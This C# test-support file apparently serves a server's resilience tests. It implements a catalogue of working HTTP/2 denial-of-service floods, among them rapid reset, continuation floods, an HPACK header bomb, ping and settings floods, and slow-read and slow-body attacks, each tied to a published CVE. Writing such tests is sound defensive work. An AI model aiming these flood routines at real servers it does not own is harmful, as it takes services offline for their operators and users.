namespace RegulatedWorkload.Tests.Support.Flooding;

/// <summary>The floods of HTTP/2 that are known (RFC 9113, section 10.5, and what was published since).</summary>
public static class Floods
{
    private const ushort InitialWindowSize = 4;
    private const int Requests = 10_000;
    private const int AtOnce = 100;
    private const int Controls = 1_000_000;

    private static readonly TimeSpan Slowly = TimeSpan.FromMilliseconds(100);
    private static readonly TimeSpan Stalled = TimeSpan.FromSeconds(1);

    public static IReadOnlyList<Flood> All { get; } =
    [
        // CVE-2023-44487: what is asked for and not wanted at once counts as no open stream.
        new("rapid reset", HasEnd: false, (connection, shop, token) => RequestsAsync(
            connection,
            stream => [.. Http2Frames.Headers(stream, Page(shop)), .. Http2Frames.Reset(stream)],
            token)),
        // CVE-2025-8671: likewise, where the client makes the server reset the stream.
        new("made reset", HasEnd: false, (connection, shop, token) => RequestsAsync(
            connection,
            stream => [.. Http2Frames.Headers(stream, Page(shop)), .. Http2Frames.WindowUpdate(stream, int.MaxValue)],
            token)),
        new("two hosts", HasEnd: false, (connection, shop, token) => RequestsAsync(
            connection,
            stream => Http2Frames.Headers(
                stream, FieldBlock.Request("GET", shop, "/", ("host", "elsewhere.example"))),
            token)),
        new("zero windows", HasEnd: true, (connection, shop, token) => connection.SendAsync(
            [
                .. Http2Frames.Opening((InitialWindowSize, 0)),
                .. Enumerable.Range(0, AtOnce / 2)
                    .SelectMany(number => Http2Frames.Headers((2 * number) + 1, Page(shop))),
            ],
            token)),
        // Each write of the server is in time, and so it goes on for as long as the client does: for ten seconds.
        new("slow reader", HasEnd: false, async (connection, shop, token) =>
        {
            connection.Read(token);
            await connection.SendAsync(
                [
                    .. Http2Frames.Opening((InitialWindowSize, 1)),
                    .. Enumerable.Range(0, AtOnce / 2)
                        .SelectMany(number => Http2Frames.Headers((2 * number) + 1, Page(shop))),
                ],
                token);
            byte[] more =
            [
                .. Enumerable.Range(0, AtOnce / 2)
                    .SelectMany(number => Http2Frames.WindowUpdate((2 * number) + 1, 1)),
            ];
            for (var sent = 0; sent < AtOnce && await connection.SendAsync(more, token); sent++)
            {
                await Task.Delay(Slowly, token);
            }
        }),
        new("slow body", HasEnd: true, (connection, shop, token) =>
            BodyAsync(connection, shop, () => SlowlyAsync(connection, Http2Frames.Data(1, (byte)' '), token), token)),
        new("empty body", HasEnd: true, (connection, shop, token) => BodyAsync(
            connection, shop, () => OnAndOnAsync(connection, Http2Frames.Repeat(AtOnce, Http2Frames.Data(1)), token),
            token)),
        // CVE-2024-27316 and its like.
        new("continuation", HasEnd: true, (connection, shop, token) => FieldsAsync(
            connection, shop, FieldBlock.Fields(("x-more", new string('a', 1_000))), token)),
        new("empty continuation", HasEnd: true, (connection, shop, token) => FieldsAsync(connection, shop, [], token)),
        // CVE-2016-6581: one byte stands for thousands.
        new("header bomb", HasEnd: true, (connection, shop, token) => connection.SendAsync(
            [
                .. Http2Frames.Opening(),
                .. Http2Frames.Headers(
                    1,
                    [
                        .. Page(shop), .. FieldBlock.Remembered("x-bomb", new string('a', 4_000)),
                        .. Enumerable.Repeat(FieldBlock.LastRemembered, Requests),
                    ]),
            ],
            token)),
        new("long header", HasEnd: true, (connection, shop, token) => connection.SendAsync(
            [.. Http2Frames.Opening(), .. Http2Frames.Headers(1, [.. Page(shop), .. Long(12 * 1024)])], token)),
        // CVE-2019-9512 and CVE-2019-9515, by who takes no answer and by who does.
        new("pings", HasEnd: false, (connection, _, token) => ControlAsync(connection, Http2Frames.Ping(), token)),
        new("settings", HasEnd: false,
            (connection, _, token) => ControlAsync(connection, Http2Frames.Settings((InitialWindowSize, 9)), token)),
        new("answered pings", HasEnd: false, async (connection, _, token) =>
        {
            connection.Read(token);
            await connection.SendAsync([.. Http2Frames.Opening(), .. Http2Frames.Repeat(Requests, Http2Frames.Ping())],
                token);
        }),
    ];

    private static byte[] Page(string shop) => FieldBlock.Request("GET", shop, "/");

    private static byte[] Long(int length) => FieldBlock.Fields(("x-long", new string('a', length)));

    private static async Task RequestsAsync(
        UnrulyConnection connection, Func<int, byte[]> request, CancellationToken cancellationToken)
    {
        connection.Read(cancellationToken);
        var goesOn = await connection.SendAsync(Http2Frames.Opening(), cancellationToken);
        for (var sent = 0; goesOn && sent < Requests; sent += AtOnce)
        {
            byte[] several = [.. Enumerable.Range(sent, AtOnce).SelectMany(number => request((2 * number) + 1))];
            goesOn = await connection.SendAsync(several, cancellationToken);
        }
    }

    private static async Task FieldsAsync(
        UnrulyConnection connection, string shop, byte[] fields, CancellationToken cancellationToken)
    {
        connection.Read(cancellationToken);
        await connection.SendAsync(
            [.. Http2Frames.Opening(), .. Http2Frames.Headers(1, Page(shop), isAll: false)], cancellationToken);
        await OnAndOnAsync(
            connection, Http2Frames.Repeat(AtOnce, Http2Frames.Continuation(1, fields)), cancellationToken);
    }

    private static async Task BodyAsync(
        UnrulyConnection connection, string shop, Func<Task> body, CancellationToken cancellationToken)
    {
        connection.Read(cancellationToken);
        var request = FieldBlock.Request("POST", shop, "/api/orders", ("content-type", "application/json"));
        await connection.SendAsync(
            [.. Http2Frames.Opening(), .. Http2Frames.Headers(1, request, hasBody: true)], cancellationToken);
        await body();
    }

    // Nobody reads what is answered, until the server reads no more either.
    private static async Task ControlAsync(
        UnrulyConnection connection, byte[] frame, CancellationToken cancellationToken)
    {
        var several = Http2Frames.Repeat(AtOnce, frame);
        var goesOn = await connection.SendAsync(Http2Frames.Opening(), cancellationToken);
        using var late = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        try
        {
            for (var sent = 0; goesOn && sent < Controls; sent += AtOnce)
            {
                late.CancelAfter(Stalled);
                goesOn = await connection.SendAsync(several, late.Token);
            }
        }
        catch (OperationCanceledException) when (!cancellationToken.IsCancellationRequested)
        {
            // It does not.
        }
    }

    private static async Task OnAndOnAsync(
        UnrulyConnection connection, byte[] frames, CancellationToken cancellationToken)
    {
        while (await connection.SendAsync(frames, cancellationToken))
        {
        }
    }

    // The pace is the attack: more than nothing, and less than a server waits for.
    private static async Task SlowlyAsync(
        UnrulyConnection connection, byte[] frame, CancellationToken cancellationToken)
    {
        while (await connection.SendAsync(frame, cancellationToken)) await Task.Delay(Slowly, cancellationToken);
    }
}
